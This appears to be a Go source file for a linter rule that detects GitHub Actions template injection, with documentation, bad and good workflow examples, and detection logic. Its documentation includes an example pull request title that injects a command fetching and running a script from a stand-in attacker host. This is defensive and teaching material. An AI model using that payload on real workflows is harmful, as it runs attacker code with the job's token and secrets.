package actions

import (
	"fmt"

	"github.com/infralint/infralint/internal/actions"
	"github.com/infralint/infralint/internal/lint"
)

// TemplateInjection reports values that outsiders choose in scripts.
var TemplateInjection = &actions.Analyzer{
	Rule: lint.Rule{
		ID:       "gha-template-injection",
		Title:    "script is built from text that an attacker can choose",
		Severity: lint.Error,
		Doc: `
GitHub puts the value of ` + "`${{ … }}`" + ` into the script before any shell
sees it. A pull request with the title ` + "`\"; curl evil.example/x | sh; \"`" + ` is
then code that runs with the job's token and secrets, and no quoting in the script
helps.

Reported are the values that anybody can choose by opening an issue, a pull
request or a discussion, or commenting on one, also where they take a detour:
through ` + "`env`" + `, the outputs of a step or a job, the matrix, or the inputs
of a reusable workflow. The inputs of a reusable workflow that nothing in this
repository calls are reported too: its callers may pass anything. Scripts are those of
` + "`run`" + ` and of actions that run what an input holds, such as actions/github-script, azure/cli
and appleboy/ssh-action.

Numbers, commits, logins, names of repositories and addresses on GitHub cannot hold
characters that mean anything to a shell and are not reported, nor is the result of a
comparison. What people with write access choose, and what nobody knows, is the business
of gha-template-expansion.

Give the value to the script as a variable, which the shell does not run:

` + "```yaml" + `
- run: echo "$TITLE"
  env:
    TITLE: ${{ github.event.pull_request.title }}
` + "```" + `

` + "`${{ env.TITLE }}`" + ` in the script would be no better than before.
`,
		Bad: `
-- .github/workflows/greet.yml --
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue ${{ github.event.issue.title }}"
`,
		Good: `
-- .github/workflows/greet.yml --
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue $TITLE"
        env:
          TITLE: ${{ github.event.issue.title }}
`,
		Tags:  []string{"security"},
		Peers: []string{"zizmor:template-injection", "poutine:injection", "actionlint:expression", "checkov:CKV_GHA_2", "codeql:actions/code-injection/critical", "codeql:actions/code-injection/medium", "octoscan:expression-injection", "scorecard:Dangerous-Workflow", "semgrep:run-shell-injection", "semgrep:github-script-injection"},
		Refs: []string{
			"https://docs.github.com/en/actions/reference/security/secure-use#understanding-the-risk-of-script-injections",
			"https://securitylab.github.com/resources/github-actions-untrusted-input/",
		},
		Since: "0.1.0",
	},
	Run: func(pass *actions.Pass) error {
		expansions(&pass.Unit.Source, func(e *actions.Expr, v actions.Value) {
			if v.Origin >= actions.Caller {
				pass.Reportf(pass.Unit.Part(e.In, v.Start, v.End), "%s", injected(e, v))
			}
		})
		return nil
	},
}

// expansions calls f for each value that is put into a script.
func expansions(t *actions.Source, f func(*actions.Expr, actions.Value)) {
	for _, in := range t.Steps() {
		for _, script := range actions.Scripts(in.Step) {
			for _, e := range t.Exprs(script) {
				for _, v := range t.Values(in, e) {
					f(e, v)
				}
			}
		}
	}
}

// injected says what is wrong, in the words of actionlint where it says so too.
func injected(e *actions.Expr, v actions.Value) string {
	if e.Node != nil {
		for _, err := range actions.Untrusted(e.Node) {
			if e.Start+err.Offset == v.Start {
				return err.Message
			}
		}
	}
	written := e.AsWritten(v.Access)
	switch {
	case v.Origin == actions.Caller:
		return fmt.Sprintf("%q, which the caller chooses, becomes part of the script; pass it as an environment variable", written)
	case v.From != v.Path:
		return fmt.Sprintf("%q holds %q, which an attacker can choose, and becomes part of the script; pass it as an environment variable", written, v.From)
	}
	return fmt.Sprintf("%q, which an attacker can choose, becomes part of the script; pass it as an environment variable", written)
}
